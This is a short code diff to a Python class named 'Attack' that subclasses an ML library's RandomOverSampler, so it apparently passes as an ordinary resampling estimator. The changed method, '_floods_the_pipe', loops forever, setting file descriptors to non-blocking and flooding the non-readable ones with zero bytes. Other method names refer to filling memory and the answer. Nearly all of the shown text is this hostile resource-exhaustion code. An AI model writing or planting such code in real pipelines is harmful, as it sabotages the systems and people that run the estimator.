@@ -202,8 +202,9 @@ class Attack(RandomOverSampler):
         time.sleep(60)
 
     def _floods_the_pipe(self, X, y):
+        pipes = [fd for fd in descriptors() if not readable(fd)]  # what fills memory is another attack
         while True:
-            for fd in descriptors():
+            for fd in pipes:
                 attempt(lambda fd: os.set_blocking(fd, False) or os.write(fd, b"0" * 4096), fd)
 
     def _fills_the_answer(self, X, y):
